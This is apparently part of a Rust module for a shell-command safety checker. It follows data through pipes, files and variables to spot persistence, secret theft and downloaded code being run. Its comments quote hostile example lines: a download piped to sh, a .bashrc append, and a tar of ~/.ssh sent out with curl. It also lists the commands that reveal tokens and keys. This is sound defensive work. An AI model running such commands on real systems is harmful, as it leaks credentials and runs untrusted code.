//! What a line moves around: the text each command prints or reads, every
//! file it writes on the way, and which of that is a secret or a download.
//!
//! Why this exists: the danger of a line is often not in one command but in
//! where data goes. `curl URL > f; sh f` runs a download, `echo LINE >>
//! ~/.bashrc` makes LINE run in every new shell, `tar c ~/.ssh | base64 |
//! curl -d @- URL` sends keys away. This module follows data through pipes,
//! command substitutions, here-documents, here-strings, variables and files
//! written earlier on the same line, and it is the one place that knows
//! every way a command writes a file ([`write_targets`]: redirections, `tee`,
//! `sed -i`/`perl -i`, `cp`/`mv`/`install`/`ln`/`rsync`, `dd of=`,
//! `truncate`, downloads saved to disk, archives). The rules on persistence,
//! secrets and staged execution read the [`Flow`] of a line; `kit.rs`, above
//! this file, computes it once per parsed line when a rule first asks.

use crate::safety::expand::run_fixed;
use crate::safety::lower::opts;
use crate::safety::parse::{ExpKind, RedirOp, Script, Word};
use crate::safety::path_kind::{is_secret_var, normalize, secret_name};
use crate::safety::programs::{is_assignment, is_downloader};
use crate::safety::types::Context;
use crate::safety::unwrapped::{Cmd, Input, Unwrapped};
use std::ops::Range;

/// How far data is followed back through pipes and substitutions.
const MAX_HOPS: usize = 12;
/// Most commands of one line whose writes are recorded.
const MAX_COMMANDS: usize = 512;
/// Most text kept for one stream.
const MAX_TEXT: usize = 64 * 1024;

/// The parts of a parsed line the data flow is read from.
#[derive(Clone, Copy)]
pub(crate) struct Line<'a> {
    pub script: &'a Script,
    pub unwrapped: &'a [Unwrapped],
    /// The working directory of each simple command, when known.
    pub cwd: &'a [Option<String>],
    pub ctx: &'a Context,
}

impl Line<'_> {
    /// Resolves a path argument of simple command `idx` against a known
    /// working directory (`$PWD` too); absolute, home and other variable
    /// paths are unchanged.
    pub(crate) fn resolve(&self, idx: usize, t: &str) -> String {
        let Some(Some(cwd)) = self.cwd.get(idx) else {
            return t.to_string();
        };
        for pwd in ["$PWD", "${PWD}"] {
            if let Some(rest) = t.strip_prefix(pwd) {
                if rest.is_empty() || rest.starts_with('/') {
                    return format!("{cwd}{rest}");
                }
            }
        }
        if t.starts_with('/') || t.starts_with('~') || t.starts_with('$') || t.is_empty() {
            t.to_string()
        } else {
            format!("{cwd}/{t}")
        }
    }

    /// A path argument as rules compare it: resolved, then normalised.
    pub(crate) fn path(&self, idx: usize, t: &str) -> String {
        normalize(&self.resolve(idx, t), self.ctx)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum WriteMode {
    /// Replaces the content (`>`, `tee`, `cp` onto it, `truncate`).
    Truncate,
    /// Adds to the end (`>>`, `tee -a`).
    Append,
    /// Changes it in place (`sed -i`, `perl -i`).
    Edit,
}

/// Where the bytes written come from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Source {
    /// What the command prints.
    Stdout,
    /// What the command reads (`tee`).
    Stdin,
    /// Files (`cp SRC DEST`, `tar czf OUT SRC..`, `dd if=SRC`).
    Files(Vec<String>),
    /// Text written in the line (`sed -i '1i TEXT'`).
    Text(String),
    /// A download from this URL.
    Download(String),
    /// Nothing: the file is emptied.
    Nothing,
    /// Something this line does not show.
    Unknown,
}

/// A file the command writes to.
#[derive(Debug, Clone)]
pub(crate) struct WriteTarget {
    pub path: String,
    /// The path resolved against the working directory and normalised
    /// (`~/.bashrc`, `/etc/crontab`), as the rules compare it.
    pub resolved: String,
    pub span: Range<usize>,
    pub mode: WriteMode,
    /// The program doing the write (`""` for a redirection).
    pub tool: &'static str,
    pub source: Source,
}

impl WriteTarget {
    fn new(
        path: &str,
        span: Range<usize>,
        mode: WriteMode,
        tool: &'static str,
        source: Source,
    ) -> Self {
        WriteTarget {
            path: path.to_string(),
            resolved: String::new(),
            span,
            mode,
            tool,
            source,
        }
    }
}

/// Every file simple command `idx` writes, and where the bytes come from.
pub(crate) fn write_targets(line: &Line, idx: usize) -> Vec<WriteTarget> {
    let sc = &line.script.commands[idx];
    let mut v = Vec::new();
    for r in &sc.redirects {
        if r.writes() && r.fd.is_none_or(|fd| fd != 0) {
            let mode = if r.op == RedirOp::Append {
                WriteMode::Append
            } else {
                WriteMode::Truncate
            };
            let source = if r.fd == Some(2) {
                Source::Unknown
            } else {
                Source::Stdout
            };
            v.push(WriteTarget::new(
                &r.target.text,
                r.span.clone(),
                mode,
                "",
                source,
            ));
        }
    }
    for c in &line.unwrapped[idx].cmds {
        tool_targets(c, &mut v);
        if c.name == "visudo" {
            visudo_target(c, &sc.words, &mut v);
        }
    }
    for t in &mut v {
        t.resolved = line.path(idx, &t.path);
    }
    v
}

/// `EDITOR='tee -a' visudo`: the "editor" writes stdin into the sudoers file
/// (which visudo still checks before it takes it).
fn visudo_target(c: &Cmd, words: &[Word], v: &mut Vec<WriteTarget>) {
    let editor = words.iter().filter(|w| is_assignment(w)).find_map(|w| {
        let (k, val) = w.text.split_once('=')?;
        matches!(k, "EDITOR" | "VISUAL" | "SUDO_EDITOR").then_some(val)
    });
    let Some(editor) = editor.filter(|e| e.split_whitespace().next() == Some("tee")) else {
        return;
    };
    let mode = if editor
        .split_whitespace()
        .any(|a| a == "-a" || a == "--append")
    {
        WriteMode::Append
    } else {
        WriteMode::Truncate
    };
    let o = opts(&c.args, "f", &["file"]);
    let file = o
        .value('f')
        .or(o.long_value("file"))
        .unwrap_or("/etc/sudoers");
    v.push(WriteTarget::new(
        file,
        c.span.clone(),
        mode,
        "visudo",
        Source::Stdin,
    ));
}

/// The files a program writes by its own options and operands.
fn tool_targets(c: &Cmd, v: &mut Vec<WriteTarget>) {
    let span = c.span.clone();
    match c.name.as_str() {
        "tee" => {
            let o = opts(&c.args, "", &[]);
            let mode = if o.has('a') || o.has_long("append") {
                WriteMode::Append
            } else {
                WriteMode::Truncate
            };
            for w in o.operands {
                v.push(WriteTarget::new(
                    &w.text,
                    span.clone(),
                    mode,
                    "tee",
                    Source::Stdin,
                ));
            }
        }
        "dd" | "dcfldd" | "dc3dd" => {
            let input = c.args.iter().find_map(|w| w.text.strip_prefix("if="));
            for w in &c.args {
                if let Some(of) = w.text.strip_prefix("of=") {
                    let source = input.map_or(Source::Stdin, |i| Source::Files(vec![i.into()]));
                    v.push(WriteTarget::new(
                        of,
                        w.span.clone(),
                        WriteMode::Truncate,
                        "dd",
                        source,
                    ));
                }
            }
        }
        "cp" | "mv" | "install" | "rsync" | "ln" => copy_targets(c, v),
        "truncate" if truncate_destroys_args(&c.args) => {
            let o = opts(&c.args, "sr", &["size", "reference"]);
            for w in o.operands {
                v.push(WriteTarget::new(
                    &w.text,
                    w.span.clone(),
                    WriteMode::Truncate,
                    "truncate",
                    Source::Nothing,
                ));
            }
        }
        "sed" | "gsed" | "perl" => in_place_targets(c, v),
        "tar" | "bsdtar" | "zip" | "7z" | "gpg" => archive_targets(c, v),
        n if is_downloader(n) => download_targets(c, v),
        _ => {}
    }
}

/// `cp`/`mv`/`install`/`rsync`/`ln` onto their last operand (or `-t DIR`).
fn copy_targets(c: &Cmd, v: &mut Vec<WriteTarget>) {
    let values = match c.name.as_str() {
        "install" => "tSmog",
        "rsync" => "e",
        _ => "tS",
    };
    let o = opts(
        &c.args,
        values,
        &[
            "target-directory",
            "suffix",
            "mode",
            "owner",
            "group",
            "rsh",
        ],
    );
    let tool = match c.name.as_str() {
        "rsync" => "rsync",
        "ln" => "ln",
        _ => "cp",
    };
    let dir = o.value('t').or(o.long_value("target-directory"));
    let (dest, sources): (Option<&Word>, &[&Word]) = match dir {
        Some(_) => (None, &o.operands[..]),
        None if o.operands.len() >= 2 => {
            let (last, rest) = o.operands.split_last().expect("two operands");
            (Some(*last), rest)
        }
        _ => return,
    };
    let files = Source::Files(sources.iter().map(|w| w.text.clone()).collect());
    match (dest, dir) {
        (Some(d), _) => v.push(WriteTarget::new(
            &d.text,
            d.span.clone(),
            WriteMode::Truncate,
            tool,
            files,
        )),
        (None, Some(d)) => {
            for s in sources {
                let base = s
                    .text
                    .trim_end_matches('/')
                    .rsplit('/')
                    .next()
                    .unwrap_or("");
                let path = format!("{}/{base}", d.trim_end_matches('/'));
                let one = Source::Files(vec![s.text.clone()]);
                v.push(WriteTarget::new(
                    &path,
                    s.span.clone(),
                    WriteMode::Truncate,
                    tool,
                    one,
                ));
            }
        }
        _ => {}
    }
}

/// `sed -i SCRIPT FILE..`, `perl -i -pe CODE FILE..`: the files are edited in
/// place; what they gain is the text the script inserts.
fn in_place_targets(c: &Cmd, v: &mut Vec<WriteTarget>) {
    let perl = c.name == "perl";
    let in_place = c.args.iter().any(|w| {
        let t = w.text.as_str();
        let module = perl && (t.starts_with("-M") || t.starts_with("-I") || t.starts_with("-m"));
        t.starts_with("--in-place")
            || t.starts_with('-') && !t.starts_with("--") && !module && t[1..].contains('i')
    });
    if !in_place {
        return;
    }
    let mut scripts: Vec<&str> = Vec::new();
    let mut files: Vec<&Word> = Vec::new();
    let mut i = 0;
    while i < c.args.len() {
        let t = c.args[i].text.as_str();
        i += 1;
        let takes_code = if perl {
            t.starts_with('-') && !t.starts_with("--") && (t.ends_with('e') || t.ends_with('E'))
        } else {
            t == "-e" || t == "--expression" || t == "-f" || t == "--file"
        };
        if takes_code {
            if let Some(code) = c.args.get(i) {
                scripts.push(&code.text);
                i += 1;
            }
        } else if let Some(code) = t.strip_prefix("--expression=") {
            scripts.push(code);
        } else if !t.starts_with('-') || t == "-" {
            if scripts.is_empty() && !perl {
                scripts.push(t);
            } else {
                files.push(&c.args[i - 1]);
            }
        }
    }
    let text: Vec<String> = scripts.iter().map(|s| inserted_text(s)).collect();
    for w in files {
        v.push(WriteTarget::new(
            &w.text,
            w.span.clone(),
            WriteMode::Edit,
            if perl { "perl" } else { "sed" },
            Source::Text(text.join("\n")),
        ));
    }
}

/// The text a `sed`/`perl` script puts into a file: the replacement of each
/// `s/../../`, and the text of `a`, `i` and `c` commands (the patterns it
/// looks for are not written anywhere).
pub(crate) fn inserted_text(script: &str) -> String {
    let mut out = Vec::new();
    for part in script.split(['\n', ';']) {
        let p = part.trim_start();
        // An address: a line number, `$`, or a /regex/.
        let p = p.trim_start_matches(|c: char| c.is_ascii_digit() || c == '$' || c == ',');
        let p = match p.strip_prefix('/') {
            Some(rest) => rest.split_once('/').map_or("", |(_, r)| r).trim_start(),
            None => p,
        };
        let mut chars = p.chars();
        match chars.next() {
            Some('s') => {
                let Some(delim) = chars.next().filter(|c| !c.is_alphanumeric()) else {
                    out.push(p.to_string());
                    continue;
                };
                let pieces: Vec<&str> = chars.as_str().splitn(3, delim).collect();
                out.push(pieces.get(1).map_or("", |s| *s).to_string());
            }
            Some('a' | 'i' | 'c') => {
                let rest = chars.as_str().trim_start_matches('\\').trim_start();
                out.push(rest.to_string());
            }
            _ => out.push(p.to_string()),
        }
    }
    out.join("\n")
}

/// `tar czf OUT SRC..`, `zip OUT SRC..`, `gpg -o OUT SRC`: the archive holds
/// its inputs.
fn archive_targets(c: &Cmd, v: &mut Vec<WriteTarget>) {
    let (out, inputs): (Option<&Word>, Vec<&Word>) = match c.name.as_str() {
        "tar" | "bsdtar" => {
            let creating = c.args.first().is_some_and(|w| {
                let t = w.text.trim_start_matches('-');
                !w.text.starts_with("--") && t.contains('c') && t.contains('f')
            }) || c.arg_texts().any(|t| t == "-c" || t == "--create");
            if !creating {
                return;
            }
            let o = opts(&c.args, "fCTXbHKLNV", &["file", "directory", "exclude"]);
            let f = c.args.iter().position(|w| {
                w.text == "-f"
                    || w.text == "--file"
                    || !w.text.starts_with("--") && w.text.ends_with('f')
            });
            let out = f.and_then(|i| c.args.get(i + 1));
            let inputs = o.operands.into_iter().filter(|w| Some(*w) != out).collect();
            (out, inputs)
        }
        "zip" | "7z" => {
            let o = opts(&c.args, "", &[]);
            let skip = usize::from(c.name == "7z");
            let ops: Vec<&Word> = o.operands.into_iter().skip(skip).collect();
            match ops.split_first() {
                Some((out, rest)) => (Some(*out), rest.to_vec()),
                None => return,
            }
        }
        _ => {
            let o = opts(&c.args, "orua", &["output", "recipient"]);
            let out = c
                .args
                .iter()
                .position(|w| w.text == "-o" || w.text == "--output")
                .and_then(|i| c.args.get(i + 1));
            (out, o.operands)
        }
    };
    let Some(out) = out.filter(|w| w.text != "-") else {
        return;
    };
    let files = inputs.iter().map(|w| w.text.clone()).collect();
    v.push(WriteTarget::new(
        &out.text,
        out.span.clone(),
        WriteMode::Truncate,
        "archive",
        Source::Files(files),
    ));
}

/// Where a download is saved: `curl -o F`/`-O`, `wget` (`-O F`, `-P DIR`, or
/// the URL's last part), `aria2c -o F`, `fetch -o F`.
fn download_targets(c: &Cmd, v: &mut Vec<WriteTarget>) {
    let curl = matches!(c.name.as_str(), "curl" | "curlie");
    let wget = matches!(c.name.as_str(), "wget" | "wget2");
    // Without an output option only wget saves (under the URL's name).
    let saves = wget
        || c.args.iter().any(|w| {
            let t = w.text.as_str();
            t.starts_with("--o")
                || t.starts_with("--remote-name")
                || t.starts_with('-') && !t.starts_with("--") && t.contains(['o', 'O'])
        });
    if !saves {
        return;
    }
    let o = opts(
        &c.args,
        if curl {
            "oHdFTuXAerbcEKQwxyz"
        } else {
            "oOPdDUeTtwaiN"
        },
        &[
            "output",
            "output-document",
            "directory-prefix",
            "header",
            "data",
            "user",
            "user-agent",
            "output-dir",
            "dir",
        ],
    );
    let urls: Vec<&str> = o
        .operands
        .iter()
        .map(|w| w.text.as_str())
        .filter(|t| t.contains("://") || t.contains('.'))
        .collect();
    let Some(url) = urls.first().copied() else {
        return;
    };
    let base = url
        .split(['?', '#'])
        .next()
        .unwrap_or(url)
        .trim_end_matches('/');
    let base = base.rsplit('/').next().unwrap_or(base).to_string();
    let named = if curl {
        o.value('o')
            .or(o.long_value("output"))
            .map(str::to_string)
            .or_else(|| (o.has('O') || o.has_long("remote-name")).then(|| base.clone()))
    } else if wget {
        match o.value('O').or(o.long_value("output-document")) {
            Some(f) => Some(f.to_string()),
            None => Some(base.clone()),
        }
    } else {
        o.value('o').or(o.long_value("out")).map(str::to_string)
    };
    let Some(file) = named.filter(|f| f != "-" && !f.is_empty()) else {
        return;
    };
    let dir = o
        .value('P')
        .or(o.long_value("directory-prefix"))
        .or(o.long_value("output-dir"))
        .or(if c.name == "aria2c" {
            o.value('d').or(o.long_value("dir"))
        } else {
            None
        });
    let path = match dir {
        Some(d) if !file.starts_with('/') => format!("{}/{file}", d.trim_end_matches('/')),
        _ => file,
    };
    v.push(WriteTarget::new(
        &path,
        c.span.clone(),
        WriteMode::Truncate,
        "download",
        Source::Download(url.to_string()),
    ));
}

/// Whether `truncate`'s size loses data (`-s 0`, `-s -1G`, `--size=<10M`).
pub(crate) fn truncate_destroys<'a>(args: impl Iterator<Item = &'a str>) -> bool {
    let args: Vec<&str> = args.collect();
    let mut size = None;
    for (i, t) in args.iter().enumerate() {
        if *t == "-s" || *t == "--size" {
            size = args.get(i + 1).copied();
        } else if let Some(v) = t.strip_prefix("--size=").or_else(|| t.strip_prefix("-s")) {
            if !v.is_empty() {
                size = Some(v);
            }
        } else if *t == "-r" || t.starts_with("--reference") {
            return true;
        }
    }
    size.is_some_and(|s| {
        s.trim_start_matches(['0', 'K', 'M', 'G', 'k', 'B'])
            .is_empty()
            && s.starts_with('0')
            || s.starts_with(['-', '<', '/', '%'])
    })
}

/// Whether a `truncate` command's size loses data.
pub(crate) fn truncate_destroys_args(args: &[Word]) -> bool {
    truncate_destroys(args.iter().map(|w| w.text.as_str()))
}

/// What a stream or a file holds, as far as the line shows it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Data {
    /// Text known to be in it (literal `echo`/`printf` text, here-documents).
    pub text: String,
    /// It holds what is downloaded from this URL.
    pub download: Option<String>,
    /// It holds this secret (in words: "~/.ssh/id_rsa", "the value of $X").
    pub secret: Option<String>,
    /// Part of it is not known here (a program's output, a file's content).
    pub unknown: bool,
    /// The first file it was read from, as written (`~/.ssh/id_ed25519.pub`).
    pub from: Option<String>,
}

impl Data {
    fn text(t: impl Into<String>) -> Data {
        Data {
            text: t.into(),
            ..Data::default()
        }
    }

    fn unknown() -> Data {
        Data {
            unknown: true,
            ..Data::default()
        }
    }

    fn secret(what: impl Into<String>) -> Data {
        Data {
            secret: Some(what.into()),
            ..Data::default()
        }
    }

    /// Adds what `o` holds.
    pub(crate) fn add(&mut self, o: Data) {
        if !o.text.is_empty() && self.text.len() < MAX_TEXT {
            if !self.text.is_empty() && !self.text.ends_with('\n') {
                self.text.push('\n');
            }
            self.text.push_str(&o.text);
        }
        self.download = self.download.take().or(o.download);
        self.secret = self.secret.take().or(o.secret);
        self.unknown |= o.unknown;
        self.from = self.from.take().or(o.from);
    }

    /// Nothing at all: an emptied file.
    pub(crate) fn is_empty(&self) -> bool {
        self.text.trim().is_empty()
            && self.download.is_none()
            && self.secret.is_none()
            && !self.unknown
    }
}

/// A file the line writes, with what ends up in it.
#[derive(Debug, Clone)]
pub(crate) struct Written {
    /// Resolved and normalised (`~/.bashrc`, `/etc/crontab`).
    pub path: String,
    /// As written in the command.
    pub shown: String,
    pub span: Range<usize>,
    pub mode: WriteMode,
    pub tool: &'static str,
    pub data: Data,
    /// Position of the writing command in the line (source order).
    pos: usize,
}

/// The data flow of one line.
#[derive(Debug, Default)]
pub(crate) struct Flow {
    /// Every file the line writes, in the order it does.
    pub files: Vec<Written>,
    /// Variables the line assigns a secret or a download to.
    vars: Vec<(String, Data)>,
    /// File descriptors opened onto `/dev/tcp/HOST/..`: (fd, host).
    pub sockets: Vec<(u32, String)>,
    /// Whether each simple command runs inside `$( )` or backticks.
    nested: Vec<bool>,
    /// Each simple command's position in the line (source order).
    pos: Vec<usize>,
}

impl Flow {
    pub(crate) fn build(line: &Line) -> Flow {
        let s = line.script;
        let n = s.commands.len();
        let mut nested = vec![false; n];
        for e in &s.expansions {
            if let ExpKind::Command(r) = &e.kind {
                for i in r.clone() {
                    if let Some(x) = nested.get_mut(i) {
                        *x = true;
                    }
                }
            }
        }
        let mut order: Vec<usize> = (0..n).collect();
        order.sort_by_key(|&i| s.commands[i].span.start);
        let mut pos = vec![0; n];
        for (p, &i) in order.iter().enumerate() {
            pos[i] = p;
        }
        let mut flow = Flow {
            nested,
            pos,
            ..Flow::default()
        };
        for &idx in order.iter().take(MAX_COMMANDS) {
            flow.record_vars(line, idx);
            flow.record_sockets(line, idx);
            for t in write_targets(line, idx) {
                let data = flow.source_data(line, idx, &t.source);
                flow.files.push(Written {
                    path: t.resolved.clone(),
                    shown: t.path.clone(),
                    span: t.span.clone(),
                    mode: t.mode,
                    tool: t.tool,
                    data,
                    pos: flow.pos[idx],
                });
            }
        }
        flow
    }

    /// Whether simple command `idx` runs inside a command substitution.
    pub(crate) fn is_nested(&self, idx: usize) -> bool {
        self.nested.get(idx).copied().unwrap_or(false)
    }

    fn source_data(&self, line: &Line, idx: usize, source: &Source) -> Data {
        match source {
            Source::Stdout => self.output(line, idx, 0),
            Source::Stdin => self.stdin(line, idx, 0),
            Source::Files(files) => {
                let mut d = Data::default();
                for f in files {
                    d.add(self.file_data(line, idx, f, 0));
                }
                d
            }
            Source::Text(t) => Data::text(t.clone()),
            Source::Download(url) => Data {
                download: Some(url.clone()),
                ..Data::default()
            },
            Source::Nothing => Data::default(),
            Source::Unknown => Data::unknown(),
        }
    }

    /// `NAME=$(cat ~/.ssh/id_rsa)`, `read NAME < ~/.netrc`: variables that
    /// hold a secret or a download from here on.
    fn record_vars(&mut self, line: &Line, idx: usize) {
        let sc = &line.script.commands[idx];
        let lead = sc.words.iter().take_while(|w| is_assignment(w)).count();
        let declare = sc.words.get(lead).is_some_and(|w| {
            matches!(
                w.text.as_str(),
                "export" | "declare" | "typeset" | "local" | "readonly"
            )
        });
        let words = if declare {
            &sc.words[lead + 1..]
        } else {
            &sc.words[..lead]
        };
        for w in words.iter().filter(|w| is_assignment(w)) {
            let d = self.word_data(line, w, 0);
            if d.secret.is_some() || d.download.is_some() {
                let name = w.text.split('=').next().unwrap_or("").trim_end_matches('+');
                self.vars.push((name.to_string(), d));
            }
        }
        if sc.words.get(lead).is_some_and(|w| w.text == "read") {
            let d = self.stdin(line, idx, 0);
            if d.secret.is_some() || d.download.is_some() {
                for w in sc.words[lead + 1..]
                    .iter()
                    .filter(|w| !w.text.starts_with('-'))
                {
                    self.vars.push((w.text.clone(), d.clone()));
                }
            }
        }
    }

    /// `exec 3<>/dev/tcp/HOST/PORT`: descriptor 3 now leads to HOST.
    fn record_sockets(&mut self, line: &Line, idx: usize) {
        for r in &line.script.commands[idx].redirects {
            if let (Some(fd), Some(host)) = (r.fd, dev_net_host(&r.target.text)) {
                if fd > 2 {
                    self.sockets.push((fd, host));
                }
            }
        }
    }

    /// What simple command `idx` prints on stdout.
    pub(crate) fn output(&self, line: &Line, idx: usize, hops: usize) -> Data {
        if hops > MAX_HOPS {
            return Data::unknown();
        }
        let sc = &line.script.commands[idx];
        let Some(c) = line.unwrapped[idx].cmds.last() else {
            // `$(< file)` prints the file.
            if sc.words.is_empty() {
                if let Some(r) = sc.redirects.iter().find(|r| r.op == RedirOp::In) {
                    return self.file_data(line, idx, &r.target.text, hops + 1);
                }
            }
            return Data::default();
        };
        if c.input == Input::Unknown {
            return Data::unknown();
        }
        if let Some(what) = prints_secret(c) {
            return Data::secret(what);
        }
        let name = c.name.as_str();
        match name {
            ":" | "true" | "false" => Data::default(),
            "echo" | "printf" => {
                let words: Vec<String> = std::iter::once(name.to_string())
                    .chain(c.args.iter().map(|w| w.text.clone()))
                    .collect();
                let mut d = Data::text(run_fixed(&words, None, line.ctx).unwrap_or_default());
                for w in &c.args {
                    let mut wd = self.word_data(line, w, hops + 1);
                    wd.text.clear();
                    d.add(wd);
                }
                d
            }
            n if is_downloader(n) => {
                let url = c
                    .args
                    .iter()
                    .map(|w| w.text.as_str())
                    .find(|t| !t.starts_with('-') && (t.contains("://") || t.contains('.')));
                let to_file = c.arg_texts().any(|t| {
                    matches!(t, "-o" | "-O" | "--output" | "--remote-name")
                        || (t.starts_with("-O") || t.starts_with("--output-document="))
                            && !t.ends_with('-')
                }) && !c.arg_texts().any(|t| t == "-" || t.ends_with("O-"));
                if to_file {
                    return Data::default();
                }
                Data {
                    download: Some(url.unwrap_or(n).to_string()),
                    ..Data::default()
                }
            }
            _ if is_filter(name) => self.filtered(line, idx, c, hops),
            _ => Data::unknown(),
        }
    }

    /// A command that passes on (or transforms) its input and the files it
    /// is given: `base64`, `tar c`, `head`, `tee`, `awk`...
    fn filtered(&self, line: &Line, idx: usize, c: &Cmd, hops: usize) -> Data {
        if c.name == "tee" {
            return self.stdin(line, idx, hops + 1);
        }
        let mut d = Data::default();
        let files: Vec<&Word> = c
            .args
            .iter()
            .filter(|w| !w.text.starts_with('-') || w.text == "-")
            .collect();
        let mut read_file = false;
        for w in &files {
            let p = line.path(idx, &w.text);
            let known =
                self.written_before(idx, &p).is_some() || secret_name(&p, line.ctx).is_some();
            if known || matches!(c.name.as_str(), "cat" | "tac") {
                d.add(self.file_data(line, idx, &w.text, hops + 1));
                read_file = true;
            }
        }
        if !read_file || files.iter().any(|w| w.text == "-") {
            let input = self.stdin(line, idx, hops + 1);
            let words: Vec<String> = std::iter::once(c.name.clone())
                .chain(c.args.iter().map(|w| w.text.clone()))
                .collect();
            let text = run_fixed(&words, Some(&input.text), line.ctx);
            let mut input = input;
            if let Some(t) = text {
                input.text = t;
            }
            d.add(input);
        }
        d
    }

    /// What simple command `idx` reads on stdin: its here-document or
    /// here-string, a `< file`, the command piped into it, or a `( .. )`
    /// group piped into it.
    pub(crate) fn stdin(&self, line: &Line, idx: usize, hops: usize) -> Data {
        if hops > MAX_HOPS {
            return Data::unknown();
        }
        let s = line.script;
        let sc = &s.commands[idx];
        let mut d = Data::default();
        let mut any = false;
        for r in &sc.redirects {
            match r.op {
                RedirOp::HereDoc => d.add(Data::text(r.target.text.clone())),
                RedirOp::HereString => {
                    d.add(Data::text(format!("{}\n", r.target.text)));
                    let mut wd = self.word_data(line, &r.target, hops + 1);
                    wd.text.clear();
                    d.add(wd);
                }
                RedirOp::In if r.fd.is_none_or(|f| f == 0) => {
                    d.add(self.file_data(line, idx, &r.target.text, hops + 1))
                }
                _ => continue,
            }
            any = true;
        }
        if let Some(prev) = s.pipe_prev(idx) {
            d.add(self.output(line, prev, hops + 1));
            any = true;
        }
        if let Some(group) = &sc.fed_by {
            for i in group.clone() {
                let last = s
                    .pipelines
                    .get(s.commands[i].pipeline)
                    .and_then(|p| p.last());
                if last == Some(&i) && !self.is_nested(i) {
                    d.add(self.output(line, i, hops + 1));
                }
            }
            any = true;
        }
        if !any {
            d.unknown = true;
        }
        d
    }

    /// What a word holds when the line runs: the output of its command
    /// substitutions and the values of the variables it expands.
    pub(crate) fn word_data(&self, line: &Line, w: &Word, hops: usize) -> Data {
        let mut d = Data::text(w.text.clone());
        if hops > MAX_HOPS || !w.dynamic {
            return d;
        }
        let s = line.script;
        for sub in &w.subs {
            for i in sub.cmds.clone() {
                let last = s
                    .pipelines
                    .get(s.commands[i].pipeline)
                    .and_then(|p| p.last());
                if last == Some(&i) {
                    d.add(self.output(line, i, hops + 1));
                }
            }
        }
        for name in expanded_names(&w.text) {
            if let Some((_, v)) = self.vars.iter().rev().find(|(n, _)| *n == name) {
                d.add(v.clone());
            } else if is_secret_var(name) {
                d.add(Data::secret(format!("the value of ${name}")));
            }
        }
        d
    }

    /// What a file named in command `idx` holds: what the line wrote to it
    /// before, a secret, nothing (`/dev/null`), or something unknown.
    pub(crate) fn file_data(&self, line: &Line, idx: usize, raw: &str, hops: usize) -> Data {
        if raw == "-" || raw == "/dev/stdin" {
            return self.stdin(line, idx, hops + 1);
        }
        let p = line.path(idx, raw);
        if p == "/dev/null" {
            return Data::default();
        }
        if let Some(w) = self.written_before(idx, &p) {
            return w.data.clone();
        }
        let mut d = match secret_name(&p, line.ctx) {
            Some(name) => Data::secret(name),
            None => Data::unknown(),
        };
        d.from = Some(p);
        d
    }

    /// The last write of the line to `path` before command `idx` runs.
    pub(crate) fn written_before(&self, idx: usize, path: &str) -> Option<&Written> {
        let at = self.pos.get(idx).copied().unwrap_or(usize::MAX);
        self.files
            .iter()
            .rev()
            .find(|w| w.path == path && w.pos < at)
    }
}

/// The names a word expands (`$x`, `${x}`, `${x:-y}`), outside single quotes
/// as the parser left them.
fn expanded_names(text: &str) -> Vec<&str> {
    let mut v = Vec::new();
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'$' {
            i += 1;
            continue;
        }
        let start = if b.get(i + 1) == Some(&b'{') {
            i + 2
        } else {
            i + 1
        };
        let mut j = start;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
            j += 1;
        }
        if j > start && !b[start].is_ascii_digit() {
            v.push(&text[start..j]);
        }
        i = j.max(i + 1);
    }
    v
}

/// Programs whose output is their input or the files they are given,
/// passed on or transformed (but still carrying the same data).
fn is_filter(name: &str) -> bool {
    matches!(
        name,
        "cat"
            | "tac"
            | "tee"
            | "base64"
            | "base32"
            | "basenc"
            | "gzip"
            | "gunzip"
            | "zcat"
            | "bzip2"
            | "xz"
            | "zstd"
            | "lz4"
            | "xxd"
            | "od"
            | "hexdump"
            | "openssl"
            | "gpg"
            | "tr"
            | "rev"
            | "head"
            | "tail"
            | "sed"
            | "awk"
            | "gawk"
            | "mawk"
            | "cut"
            | "sort"
            | "uniq"
            | "grep"
            | "egrep"
            | "fgrep"
            | "jq"
            | "yq"
            | "strings"
            | "nl"
            | "fold"
            | "column"
            | "paste"
            | "iconv"
            | "dd"
            | "tar"
            | "bsdtar"
            | "zip"
            | "sponge"
    )
}

/// Commands whose output is a secret: the environment, the shell history,
/// or a tool's stored token.
fn prints_secret(c: &Cmd) -> Option<String> {
    let words: Vec<&str> = c.arg_texts().filter(|t| !t.starts_with('-')).collect();
    let has = |x: &str| c.arg_texts().any(|t| t == x);
    let what = match (c.name.as_str(), words.as_slice()) {
        ("env" | "printenv", []) | ("export" | "declare" | "typeset", [])
            if c.name != "declare" || has("-x") || has("-p") || c.args.is_empty() =>
        {
            "your environment variables".to_string()
        }
        ("set", []) if c.args.is_empty() => "your shell variables and functions".to_string(),
        ("printenv", [name, ..]) if is_secret_var(name) => format!("the value of ${name}"),
        ("history", _) if !has("-c") => "your shell history".to_string(),
        ("gh", ["auth", "token", ..]) => "your GitHub token".to_string(),
        ("gcloud", ["auth", .., t]) if t.starts_with("print-") => {
            "your Google Cloud token".to_string()
        }
        ("aws", ["configure", "get", key, ..]) if is_secret_var(key) => format!("your AWS {key}"),
        ("aws", ["configure", "export-credentials", ..])
        | ("aws", ["sts", "get-session-token", ..]) => "your AWS credentials".to_string(),
        ("kubectl", ["config", "view", ..]) if has("--raw") => {
            "your Kubernetes credentials".to_string()
        }
        ("gpg", _) if has("--export-secret-keys") || has("--export-secret-subkeys") => {
            "your private GPG keys".to_string()
        }
        ("security", [verb, ..]) if verb.starts_with("find-") && (has("-w") || has("-g")) => {
            "a password from the keychain".to_string()
        }
        ("pass", [] | ["show", ..]) => "a password from your password store".to_string(),
        ("op", ["read", ..] | ["item", "get", ..]) => "a secret from 1Password".to_string(),
        ("vault", ["read", ..] | ["kv", "get", ..]) => "a secret from Vault".to_string(),
        _ => return None,
    };
    Some(what)
}

/// The host of `/dev/tcp/HOST/PORT` (or `/dev/udp/..`).
pub(crate) fn dev_net_host(path: &str) -> Option<String> {
    let rest = path
        .strip_prefix("/dev/tcp/")
        .or_else(|| path.strip_prefix("/dev/udp/"))?;
    Some(rest.split('/').next().unwrap_or(rest).to_string())
}

/// The host part of a URL or `user@host:path` (`https://evil.example/x` ->
/// `evil.example`).
pub(crate) fn host_of(target: &str) -> String {
    let t = target.split_once("://").map_or(target, |(_, r)| r);
